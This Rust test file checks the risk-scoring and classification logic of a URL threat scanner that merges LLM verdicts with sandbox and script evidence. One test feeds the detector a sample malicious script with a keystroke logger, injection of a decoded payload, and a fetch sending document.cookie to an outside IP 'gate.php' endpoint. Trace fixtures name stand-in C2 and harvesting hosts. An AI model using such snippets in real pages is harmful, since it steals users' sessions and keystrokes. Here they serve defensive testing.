use std::collections::BTreeMap;
use std::path::Path;

use proptest::prelude::*;
use serde_json::{json, Value};
use urlscope_core::evidence::{DomMetadata, EvidenceBundle, Finding, FindingCategory, Severity, UrlRecord};
use urlscope_core::llm::{parse_verdict, VerdictDocument};
use urlscope_core::prompt::PromptKind;
use urlscope_core::risk::{combine, score_evidence, Classification, EvidenceCategory, EvidenceScore, RiskError, ThreatType, WeightTable};
use urlscope_core::sandbox::trace::{TraceEvent, TraceKind};
use urlscope_core::static_analysis::analyze_script;

fn url(s: &str) -> UrlRecord {
    UrlRecord::parse(s).unwrap()
}

fn github_verdicts() -> BTreeMap<PromptKind, VerdictDocument> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/github/responses");
    PromptKind::ALL
        .into_iter()
        .map(|k| {
            let raw = std::fs::read_to_string(dir.join(format!("{k}.json"))).unwrap();
            (k, parse_verdict(&raw, &k.schema()).unwrap())
        })
        .collect()
}

fn doc(kind: PromptKind, v: Value) -> VerdictDocument {
    VerdictDocument::from_value(kind, v)
}

#[test]
fn github_verdicts_are_benign() {
    let w = WeightTable::default();
    let r = combine(&url("https://github.com"), &github_verdicts(), &EvidenceScore::default(), &w).unwrap();
    assert_eq!(r.classification, Classification::Benign);
    assert_eq!(r.threat_type, ThreatType::None);
    assert_eq!(r.risk_level, Severity::Low);
    // (0*1 + 20*1 + 30*0.5 + 20*0.5 + 8*0.25) / 3.25 = 14.46, blended at 0.6
    assert_eq!(r.model_score, 14.46);
    assert_eq!(r.risk_score, 9);
    assert_eq!(r.explanations[&PromptKind::DomMetadata], "Safe");
    assert_eq!(r.explanations[&PromptKind::ScriptSecurity], "Low security risk found in wp-runtime-7ec44d86e5dd.js");
    assert_eq!(r.headline(), "Benign - Low Risk");
}

#[test]
fn confident_fake_login_forces_malicious() {
    let mut v = github_verdicts();
    v.insert(PromptKind::DomMetadata, doc(PromptKind::DomMetadata, json!({"isPhishing": true, "confidence": 90, "phishingType": "fake-login", "legitimacyScore": 100, "recommendation": "Block"})));
    let r = combine(&url("https://github.com"), &v, &EvidenceScore::default(), &WeightTable::default()).unwrap();
    assert_eq!(r.classification, Classification::Malicious);
    assert_eq!(r.threat_type, ThreatType::Phishing);
    assert!(r.risk_level >= Severity::High);

    // Below the override confidence the same verdict does not force anything.
    v.insert(PromptKind::DomMetadata, doc(PromptKind::DomMetadata, json!({"isPhishing": true, "confidence": 69, "phishingType": "fake-login", "legitimacyScore": 100})));
    let r = combine(&url("https://github.com"), &v, &EvidenceScore::default(), &WeightTable::default()).unwrap();
    assert_eq!(r.classification, Classification::Benign);
}

#[test]
fn warning_band_points_give_benign_with_warnings() {
    let w = WeightTable::default();
    for points in [w.thresholds.warnings_min, 40, w.thresholds.malicious_min - 1] {
        let r = combine(&url("https://github.com"), &github_verdicts(), &EvidenceScore::from_points(points), &w).unwrap();
        assert_eq!(r.classification, Classification::BenignWithWarnings, "{points}");
        assert_eq!(r.threat_type, ThreatType::None);
    }
}

#[test]
fn missing_required_verdicts_are_listed() {
    let mut v = github_verdicts();
    v.remove(&PromptKind::DomMetadata);
    v.remove(&PromptKind::SandboxBehavior);
    let err = combine(&url("https://github.com"), &v, &EvidenceScore::default(), &WeightTable::default()).unwrap_err();
    match err {
        RiskError::MissingVerdicts(k) => assert_eq!(k, [PromptKind::DomMetadata, PromptKind::SandboxBehavior]),
        other => panic!("{other}"),
    }
    assert!(combine(&url("https://github.com"), &v, &EvidenceScore::default(), &WeightTable::default()).unwrap_err().to_string().contains("dom_metadata, sandbox_behavior"));
}

#[test]
fn behavior_only_evidence_defaults_to_malware() {
    let v = BTreeMap::from([
        (PromptKind::DomMetadata, doc(PromptKind::DomMetadata, json!({"isPhishing": false, "confidence": 10, "phishingType": "none", "legitimacyScore": 60}))),
        (PromptKind::SandboxBehavior, doc(PromptKind::SandboxBehavior, json!({"sandboxRiskScore": 90, "sandboxFindings": [{"title": "Exfiltration of form data", "severity": "High"}]}))),
    ]);
    let r = combine(&url("https://x.example"), &v, &EvidenceScore::from_points(70), &WeightTable::default()).unwrap();
    assert_eq!(r.classification, Classification::Malicious);
    assert_eq!(r.threat_type, ThreatType::Malware);
    assert_eq!(r.findings[0].category, FindingCategory::DataExfiltration);
    assert_eq!(r.findings[0].evidence_refs, ["verdict:sandbox_behavior"]);
}

#[test]
fn empty_bundle_scores_zero() {
    let s = score_evidence(&EvidenceBundle::empty(url("https://a.example/")), &WeightTable::default());
    assert_eq!(s.points, 0);
    assert!(s.findings.is_empty());
}

fn hidden_iframe(ts: u64) -> TraceEvent {
    TraceEvent::new(ts, TraceKind::DomInsert, json!({"tag": "iframe", "hidden": true, "attrs": {"src": "https://t.example/", "width": "0", "height": "0"}}))
}

fn external_post(ts: u64) -> TraceEvent {
    TraceEvent::new(ts, TraceKind::Fetch, json!({"url": "https://collect.example/p", "method": "POST", "cross_origin": true}))
}

#[test]
fn hidden_iframe_and_external_post() {
    let w = WeightTable::default();
    let mut b = EvidenceBundle::empty(url("https://shop.example/"));
    b.trace = vec![hidden_iframe(5), external_post(9), external_post(12)];
    let s = score_evidence(&b, &w);
    // manual sum from the shipped table: 15 + 30
    assert_eq!(s.points, 45);
    assert_eq!(s.matched, [EvidenceCategory::HiddenIframe, EvidenceCategory::ExternalPostExfil]);
    let exfil = s.findings.iter().find(|f| f.category == FindingCategory::DataExfiltration).unwrap();
    assert_eq!(exfil.severity, Severity::High);
    assert_eq!(exfil.evidence_refs, ["trace:1", "trace:2"]);
    for f in &s.findings {
        for r in &f.evidence_refs {
            assert!(b.resolves(r), "{r}");
        }
    }
}

#[test]
fn every_category_caps_at_100() {
    let w = WeightTable::default();
    let mut b = EvidenceBundle::empty(url("http://192.168.0.7/account"));
    let src = r#"
        if (navigator.webdriver) { throw 0; }
        var s = document.createElement("script");
        s.text = atob("YWxlcnQoMSk=");
        document.body.appendChild(s);
        setTimeout("run()", 10);
        document.addEventListener("keydown", function (e) { buf += e.key; });
        var c = document.cookie;
        fetch("http://45.9.1.2/gate.php?id=" + c);
    "#;
    let mut fs = analyze_script("kit.js", src);
    fs.obfuscation_score = 1.0;
    b.scripts.push(fs);
    b.trace = vec![
        hidden_iframe(1),
        external_post(2),
        TraceEvent::new(3, TraceKind::DomInsert, json!({"tag": "input", "attrs": {"type": "password"}})),
        TraceEvent::new(4, TraceKind::Eval, json!({"code": "x"})),
        TraceEvent::new(5, TraceKind::ScriptAppend, json!({"src": "https://cdn.evil.example/a.js", "cross_origin": true})),
        TraceEvent::new(6, TraceKind::Geolocation, json!({})),
        TraceEvent::new(7, TraceKind::Websocket, json!({"url": "wss://c2.example/", "cross_origin": true})),
    ];
    b.dom_meta = DomMetadata { password_fields: 1, external_form_actions: vec!["https://harvest.example/post".into()], ..Default::default() };
    let s = score_evidence(&b, &w);
    assert_eq!(s.matched, EvidenceCategory::ALL.to_vec(), "{:?}", s.matched);
    assert_eq!(s.points, 100);
    assert!(w.evidence.values().sum::<u32>() > 100);
}

#[test]
fn insecure_practice_is_reported_but_not_scored() {
    let w = WeightTable::default();
    let s = score_evidence(&EvidenceBundle::empty(url("http://plain.example/")), &w);
    assert_eq!(s.matched, [EvidenceCategory::InsecurePractice]);
    assert_eq!(s.points, 0);
}

#[test]
fn threshold_sweep_has_two_transitions() {
    let w = WeightTable::default();
    let v = github_verdicts();
    let classes: Vec<Classification> =
        (0..=100).map(|p| combine(&url("https://github.com"), &v, &EvidenceScore::from_points(p), &w).unwrap().classification).collect();
    let transitions: Vec<usize> = (1..classes.len()).filter(|&i| classes[i] != classes[i - 1]).collect();
    assert_eq!(transitions, [w.thresholds.warnings_min as usize, w.thresholds.malicious_min as usize]);
    assert_eq!(classes[0], Classification::Benign);
    assert_eq!(classes[transitions[0]], Classification::BenignWithWarnings);
    assert_eq!(classes[100], Classification::Malicious);
}

fn severity() -> impl Strategy<Value = Severity> {
    prop::sample::select(Severity::ALL.to_vec())
}

prop_compose! {
    fn verdicts()(
        phishing in any::<bool>(),
        conf in 0u32..=100,
        ptype in prop::sample::select(vec!["none", "fake-login", "credential-harvesting", "social-engineering", "clone-site"]),
        legit in 0u32..=100,
        dom_risk in prop::option::of(0u32..=100),
        dom_sev in prop::collection::vec(severity(), 0..3),
        sandbox in 0u32..=100,
        sandbox_sev in prop::collection::vec(severity(), 0..3),
        global in prop::option::of((0u32..=100, any::<bool>(), 0u32..=100)),
        script in prop::option::of(severity()),
        trust in prop::option::of(0u32..=100),
    ) -> BTreeMap<PromptKind, VerdictDocument> {
        let mut dom = json!({"isPhishing": phishing, "confidence": conf, "phishingType": ptype, "legitimacyScore": legit,
            "domIndicators": dom_sev.iter().map(|s| json!({"type": "suspicious-form", "description": "form posts elsewhere", "severity": s.as_str()})).collect::<Vec<_>>()});
        if let Some(r) = dom_risk {
            dom["domRiskScore"] = r.into();
        }
        let mut m = BTreeMap::from([
            (PromptKind::DomMetadata, doc(PromptKind::DomMetadata, dom)),
            (PromptKind::SandboxBehavior, doc(PromptKind::SandboxBehavior, json!({"sandboxRiskScore": sandbox,
                "sandboxFindings": sandbox_sev.iter().map(|s| json!({"title": "runtime behavior", "severity": s.as_str()})).collect::<Vec<_>>()}))),
        ]);
        if let Some((g, gp, gc)) = global {
            m.insert(PromptKind::GlobalProperties, doc(PromptKind::GlobalProperties, json!({"globalPropsRiskScore": g, "isPhishing": gp, "confidence": gc, "phishingType": "keylogger"})));
        }
        if let Some(s) = script {
            m.insert(PromptKind::ScriptSecurity, doc(PromptKind::ScriptSecurity, json!({"summary": "s", "securityAnalysis": {"riskLevel": s.as_str(), "vulnerabilities": []}})));
        }
        if let Some(t) = trust {
            m.insert(PromptKind::Trust, doc(PromptKind::Trust, json!({"score": t, "level": "Medium", "factors": []})));
        }
        m
    }
}

prop_compose! {
    fn evidence()(cats in prop::collection::btree_set(prop::sample::select(EvidenceCategory::ALL.to_vec()), 0..8), sevs in prop::collection::vec(severity(), 8)) -> Vec<(EvidenceCategory, Severity)> {
        cats.into_iter().zip(sevs).collect()
    }
}

fn score_of(items: &[(EvidenceCategory, Severity)], w: &WeightTable) -> EvidenceScore {
    let mut s = EvidenceScore::default();
    for (c, sev) in items {
        if !w.excluded_from_points.contains(c) {
            s.points += w.evidence[c];
        }
        s.matched.push(*c);
        s.findings.push(Finding { title: c.to_string(), category: FindingCategory::Other, severity: *sev, evidence_refs: vec![] });
    }
    s.points = s.points.min(100);
    s
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(10_000))]

    #[test]
    fn report_invariants_and_monotonicity(v in verdicts(), ev in evidence(), extra in prop::sample::select(EvidenceCategory::ALL.to_vec()), extra_sev in severity()) {
        let w = WeightTable::default();
        let u = url("https://p.example/");
        let base = combine(&u, &v, &score_of(&ev, &w), &w).unwrap();
        prop_assert!(base.risk_score <= 100);
        if base.classification == Classification::Malicious {
            prop_assert!(base.risk_level >= Severity::High);
        }
        if base.classification == Classification::Benign {
            prop_assert!(base.findings.iter().all(|f| f.severity != Severity::Critical));
        }
        prop_assert_eq!(&base, &combine(&u, &v, &score_of(&ev, &w), &w).unwrap());

        if !ev.iter().any(|(c, _)| *c == extra) && w.evidence[&extra] > 0 {
            let mut more = ev.clone();
            more.push((extra, extra_sev));
            let grown = combine(&u, &v, &score_of(&more, &w), &w).unwrap();
            prop_assert!(grown.risk_score >= base.risk_score);
            prop_assert!(grown.classification >= base.classification);
            if grown.classification == Classification::Malicious {
                prop_assert!(grown.risk_level >= Severity::High);
            }
            if grown.classification == Classification::Benign {
                prop_assert!(grown.findings.iter().all(|f| f.severity != Severity::Critical));
            }
        }
    }
}
